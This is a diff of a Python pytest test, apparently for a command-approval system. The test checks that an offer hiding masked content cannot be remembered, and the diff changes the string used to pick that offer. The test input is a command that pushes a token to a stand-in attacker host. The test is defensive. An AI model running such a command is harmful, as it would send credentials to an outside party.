@@ -97,7 +97,7 @@ async def test_words_that_hide_something_are_not_remembered_unrevealed(world: Wo
     """An offer's id can be forged; its words put together what stood apart."""
     command = ["git", "push", "token", "attackerhost12"]
     record = await world.submit(**{**HIDING, "arguments": {"argv": command}})
-    offer = next(one for one in offers(record) if "attackerhost12" in one.words)
+    offer = next(one for one in offers(record) if "secret of 14" in one.words)
     tap = click(record, remember=Remember(offer=offer.id))
     with pytest.raises(InvalidRequest, match="a mask hides what this would cover"):
         await world.core.requests.decide(tap)
